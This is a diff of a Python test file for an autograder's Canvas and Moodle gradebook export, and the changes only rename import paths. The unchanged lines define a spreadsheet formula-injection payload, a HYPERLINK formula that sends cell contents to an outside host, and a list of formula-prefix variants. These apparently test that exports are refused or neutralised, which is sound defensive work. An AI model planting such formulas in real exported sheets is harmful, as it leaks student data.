@@ -10,14 +10,14 @@ import pytest
 from gradebooks import canvas_import, desk, moodle_import, opened, submission, with_assignment
 from nbgrader.apps import ExportApp
 
-from autograder.assignment import Assignment
-from autograder.errors import ExportRefused
-from autograder.lms.canvas import Canvas
-from autograder.lms.cells import identifier, text, write
-from autograder.lms.marks import Mark, PartMark, Sheet, Student, Table
-from autograder.lms.moodle import Moodle
+from autograder.core.assignment import Assignment
+from autograder.core.errors import ExportRefused
+from autograder.report.lms.canvas import Canvas
+from autograder.report.lms.cells import identifier, text, write
+from autograder.report.lms.marks import Mark, PartMark, Sheet, Student, Table
+from autograder.report.lms.moodle import Moodle
 
-EXPORTS = "autograder.nbgrader_edge.exports"
+EXPORTS = "autograder.nbgrader_adapter.exports"
 EVIL = '=HYPERLINK("http://example.org?"&A1)'
 FORMULAS = ("=1+1", "+1", "-1", "@SUM(A1)", " \t=1", "\r=1", "＝1", "\u200e=1")
 USERS = {101: "ada", 202: "bob", 303: "wei"}
